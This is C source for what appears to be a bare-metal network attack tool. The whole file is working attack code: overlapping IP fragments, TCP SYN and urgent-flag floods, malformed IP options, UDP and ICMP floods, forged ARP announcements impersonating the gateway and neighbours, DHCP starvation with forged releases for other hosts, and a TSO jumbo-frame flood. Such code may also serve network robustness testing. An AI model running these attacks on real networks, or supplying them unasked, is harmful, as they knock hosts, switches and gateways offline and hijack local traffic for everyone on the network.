/*
 * Attacks by frames: at the gateway and what stands behind it, at the switch, and at
 * the neighbours. RFC 791, 768, 792, 9293, 2131. CPU 0, tasks.
 */
#include "attack.h"
#include "console.h"
#include "memory.h"
#include "net.h"
#include "nic.h"
#include "peers.h"

#define ETHER 14u
#define MORE 0x2000u /* more fragments follow */
#define OPEN_FRAGMENTS 10000
#define ROUND 256 /* steps of each kind of fragments before those */
#define FORGED_MAX 16

#define TCP_SYN 2
#define TCP_PSH 8
#define TCP_ACK 16
#define TCP_URG 32

struct ip {
	unsigned protocol, id, fragment; /* fragment: the header's field */
	const uint8_t *options;
	unsigned option_size; /* a multiple of 4 */
};

static uint8_t *frame;
static unsigned header_size;

/* A new frame with its Ethernet header, or NULL: no room. */
static uint8_t *new_frame(const uint8_t *to, const uint8_t *from, unsigned type)
{
	frame = nic_room() ? nic_frame() : NULL;
	if (frame == NULL)
		return NULL;
	memcpy(frame, to, 6);
	memcpy(frame + 6, from, 6);
	put16(frame + 12, type);
	return frame + ETHER;
}

/* The payload of a new packet to the target, for send_ip(); NULL: no room. */
static uint8_t *new_ip(const struct attack *attack, const struct ip *ip)
{
	uint8_t *header = new_frame(attack->mac, nic_mac, 0x0800);

	if (header == NULL)
		return NULL;
	header_size = 20 + ip->option_size;
	put16(header, (0x40 | header_size / 4) << 8);
	put16(header + 4, ip->id);
	put16(header + 6, ip->fragment);
	put16(header + 8, 64 << 8 | ip->protocol);
	put16(header + 10, 0);
	put32(header + 12, net_address.ip);
	put32(header + 16, attack->target);
	memcpy(header + 20, ip->options, ip->option_size);
	return header + header_size;
}

static unsigned send_ip(unsigned length)
{
	uint8_t *header = frame + ETHER;

	put16(header + 2, header_size + length);
	put16(header + 10, net_checksum(0, header, header_size));
	nic_send(ETHER + header_size + length);
	return 1;
}

/* What makes a transport header's checksum right; at: where it stands. */
static void sum(const struct attack *attack, unsigned protocol, uint8_t *payload, unsigned at,
		unsigned length)
{
	put16(payload + at, 0);
	put16(payload + at,
	      net_checksum(net_pseudo_sum(net_address.ip, attack->target, protocol, length),
			   payload, length));
}

/* --- fragments --- */

static unsigned send_fragment(struct attack *attack, unsigned id, unsigned fragment,
			      unsigned length)
{
	const struct ip ip = { .protocol = IP_UDP, .id = id, .fragment = fragment };
	uint8_t *payload = new_ip(attack, &ip);

	if (payload == NULL)
		return 0;
	/* As a header of a datagram, and as the addresses that a reassembler may take it for. */
	for (unsigned i = 0; i < length; i += 4)
		put32(payload + i, random_next(&attack->chance));
	return send_ip(length);
}

/* Offsets are in units of 8 bytes. */
unsigned attack_fragments(struct attack *attack)
{
	unsigned at = attack->step % (2 * ROUND + OPEN_FRAGMENTS), id = attack->step;

	if (at >= 2 * ROUND)
		return send_fragment(attack, id, MORE | attack_pick(attack, 64), 64);
	if (at < ROUND)
		return send_fragment(attack, id, 1 + attack_pick(attack, 8000), 64) +
		       send_fragment(attack, id, MORE, 512);
	return send_fragment(attack, id, MORE, 512) + send_fragment(attack, id, MORE | 8, 512) +
	       send_fragment(attack, id, MORE | attack_pick(attack, 128), 1024) +
	       send_fragment(attack, id, 70, 64);
}

/* --- TCP --- */

static unsigned send_tcp(struct attack *attack, unsigned flags, unsigned length)
{
	const struct ip ip = { .protocol = IP_TCP, .id = attack->step };
	uint8_t *tcp = new_ip(attack, &ip);

	if (tcp == NULL)
		return 0;
	put16(tcp, 1024 + attack->step % 60000);
	put16(tcp + 2, 1 + attack->step / 7 % 65535);
	put32(tcp + 4, random_next(&attack->chance));
	put32(tcp + 8, flags & TCP_ACK ? random_next(&attack->chance) : 0);
	put16(tcp + 12, 0x5000 | flags);
	put16(tcp + 14, 65535);
	put16(tcp + 16, 0);
	put16(tcp + 18, flags & TCP_URG ? random_next(&attack->chance) : 0);
	memset(tcp + 20, 'u', length);
	sum(attack, IP_TCP, tcp, 16, 20 + length);
	return send_ip(20 + length);
}

unsigned attack_urgent(struct attack *attack)
{
	return send_tcp(attack, TCP_SYN | TCP_URG, 0) +
	       send_tcp(attack, TCP_ACK | TCP_PSH | TCP_URG, attack_pick(attack, 1400));
}

unsigned attack_tcp(struct attack *attack)
{
	return send_tcp(attack, TCP_SYN, 0);
}

/* --- options --- */

unsigned attack_options(struct attack *attack)
{
	/* No operation, record route, timestamp, loose and strict source route, alert, unknown. */
	static const uint8_t kinds[] = { 1, 7, 68, 131, 137, 148, 0xdf };
	uint8_t options[40];
	const struct ip ip = { .protocol = IP_ICMP, .id = attack->step, .options = options,
			       .option_size = 4 + 4 * attack_pick(attack, 10) };
	uint8_t *icmp;

	for (unsigned i = 0; i < sizeof(options); i++)
		options[i] = random_next(&attack->chance);
	options[0] = kinds[attack_pick(attack, sizeof(kinds))];
	if (attack_pick(attack, 2) == 0)
		options[1] = ip.option_size;
	icmp = new_ip(attack, &ip);
	if (icmp == NULL)
		return 0;
	memset(icmp, 0, 64);
	icmp[0] = 8;
	put16(icmp + 2, net_checksum(0, icmp, 64));
	return send_ip(64);
}

/* --- floods --- */

unsigned attack_udp(struct attack *attack)
{
	const struct ip ip = { .protocol = IP_UDP, .id = attack->step };
	unsigned length = 8 + attack_pick(attack, 64);
	uint8_t *udp = new_ip(attack, &ip);

	if (udp == NULL)
		return 0;
	put16(udp, 1024 + attack->step % 60000);
	put16(udp + 2, 1024 + attack_pick(attack, 60000));
	put16(udp + 4, length);
	memset(udp + 8, 0, length - 8);
	sum(attack, IP_UDP, udp, 6, length);
	return send_ip(length);
}

unsigned attack_icmp(struct attack *attack)
{
	const struct ip ip = { .protocol = IP_ICMP, .id = attack->step };
	unsigned length = 8 + attack_pick(attack, 1400);
	uint8_t *icmp = new_ip(attack, &ip);

	if (icmp == NULL)
		return 0;
	memset(icmp, 0, length);
	put32(icmp, 8u << 24);
	put32(icmp + 4, attack->step);
	put16(icmp + 2, net_checksum(0, icmp, length));
	return send_ip(length);
}

/* --- forged senders --- */

static struct {
	uint8_t mac[6];
	uint32_t ip;
} victims[FORGED_MAX];
static unsigned victim_count;

static void add_victim(uint32_t ip)
{
	if (victim_count < FORGED_MAX && net_resolve(ip, SECOND) &&
	    net_mac_of(ip, victims[victim_count].mac))
		victims[victim_count++].ip = ip;
}

static void find_peers(void)
{
	unsigned n = peer_count();

	victim_count = 0;
	for (unsigned i = 0; i < n; i++)
		add_victim(peer_turn(i)->ip);
}

bool attack_forged_begin(struct attack *attack)
{
	(void)attack;
	find_peers();
	add_victim(net_address.gateway);
	add_victim(net_address.gateway + 1); /* where a switch has its DNS */
	if (victim_count == 0)
		print("attack: nobody has a MAC\n");
	return victim_count > 0;
}

/* Announces itself as another, or only sends from that address, to all or to nobody. */
unsigned attack_forged(struct attack *attack)
{
	static const uint8_t all[6] = { 0xff, 0xff, 0xff, 0xff, 0xff, 0xff },
			     nobody[6] = { 2, 0, 0, 0, 0, 1 };
	unsigned n = attack_pick(attack, victim_count);
	uint8_t *arp = new_frame(attack_pick(attack, 2) ? all : nobody, victims[n].mac, 0x0806);

	if (arp == NULL)
		return 0;
	put16(arp, 1);
	put16(arp + 2, 0x0800);
	put32(arp + 4, 6 << 24 | 4 << 16 | (1 + attack_pick(attack, 2)));
	memcpy(arp + 8, victims[n].mac, 6);
	put32(arp + 14, victims[n].ip);
	memset(arp + 18, 0, 6);
	put32(arp + 24, victims[n].ip);
	nic_send(ETHER + 28);
	return 1;
}

/* --- DHCP --- */

enum { DISCOVER = 1, REQUEST = 3, DECLINE = 4, RELEASE = 7 };

static uint8_t *option(uint8_t *at, unsigned code, uint32_t ip)
{
	at[0] = code;
	at[1] = 4;
	put32(at + 2, ip);
	return at + 6;
}

/* A message of a client with that MAC, about that address. */
static unsigned send_dhcp(struct attack *attack, unsigned type, const uint8_t *client, uint32_t ip)
{
	static const uint8_t all[6] = { 0xff, 0xff, 0xff, 0xff, 0xff, 0xff };
	const uint8_t *from = attack_pick(attack, 2) ? client : nic_mac;
	uint8_t *header = new_frame(all, from, 0x0800), *udp, *dhcp, *at;
	unsigned length;

	if (header == NULL)
		return 0;
	udp = header + 20;
	dhcp = udp + 8;
	memset(header, 0, 20 + 8 + 300);
	put16(header, 0x4500);
	put16(header + 8, 64 << 8 | IP_UDP);
	put32(header + 12, type == RELEASE ? ip : 0);
	put32(header + 16, IP_BROADCAST);
	put16(udp, 68);
	put16(udp + 2, 67);
	put32(dhcp, 0x01010600);
	put32(dhcp + 4, random_next(&attack->chance));
	put32(dhcp + 12, type == RELEASE ? ip : 0);
	memcpy(dhcp + 28, client, 6);
	put32(dhcp + 236, 0x63825363);
	at = dhcp + 240;
	at[0] = 53;
	at[1] = 1;
	at[2] = type;
	at = option(at + 3, 54, net_address.gateway);
	if (type != RELEASE && ip != 0)
		at = option(at, 50, ip);
	*at++ = 255;
	length = maximum(8 + (at - dhcp), 8 + 300);
	put16(udp + 4, length);
	header_size = 20;
	return send_ip(length);
}

unsigned attack_dhcp(struct attack *attack)
{
	uint32_t mask = net_address.mask;
	uint32_t ip = (net_address.ip & mask) | (random_next(&attack->chance) & ~mask);
	uint8_t client[6] = { 2 };
	unsigned n, done;

	if (attack->step % 4096 == 0)
		find_peers();
	put32(client + 2, attack->step);
	done = send_dhcp(attack, DISCOVER, client, 0) + send_dhcp(attack, REQUEST, client, ip);
	done += send_dhcp(attack, DECLINE, client, ip);
	if (victim_count > 0) {
		n = attack_pick(attack, victim_count);
		done += send_dhcp(attack, attack_pick(attack, 2) ? DECLINE : RELEASE,
				  victims[n].mac, victims[n].ip);
	}
	return done;
}

/* --- TSO --- */

static uint8_t *jumbo;

/* To everybody; the segments have another size each time. */
static bool set_jumbo(struct attack *attack)
{
	static const uint16_t sizes[] = { 1, 536, 1460, 7, 2, 9000, 65535 };
	unsigned size = sizes[attack->step / 64 % ARRAY_SIZE(sizes)], length = JUMBO_MAX - ETHER;
	uint8_t *ip = jumbo + ETHER, *tcp = ip + 20;

	memset(jumbo, 0xff, 6);
	memcpy(jumbo + 6, nic_mac, 6);
	put16(jumbo + 12, 0x0800);
	put16(ip, 0x4500);
	put16(ip + 2, length);
	put16(ip + 8, 64 << 8 | IP_TCP);
	put32(ip + 12, net_address.ip);
	put32(ip + 16, attack->target);
	put16(ip + 10, 0);
	put16(ip + 10, net_checksum(0, ip, 20));
	put16(tcp, 9);
	put16(tcp + 2, 9);
	put16(tcp + 12, 0x5010);
	put16(tcp + 16, ~net_checksum(net_pseudo_sum(net_address.ip, attack->target, IP_TCP,
						     length - 20), NULL, 0));
	return nic_flood_frame(jumbo, JUMBO_MAX, size);
}

bool attack_jumbo_begin(struct attack *attack)
{
	if (jumbo == NULL)
		jumbo = memory_take(JUMBO_MAX);
	if (jumbo != NULL && set_jumbo(attack))
		return true;
	print("attack: no RAM for it, or the card has no TSO\n");
	return false;
}

unsigned attack_jumbo(struct attack *attack)
{
	if (attack->step % 64 == 63)
		set_jumbo(attack);
	return nic_flood(16);
}

void attack_jumbo_end(struct attack *attack)
{
	(void)attack;
	nic_flood_end();
}
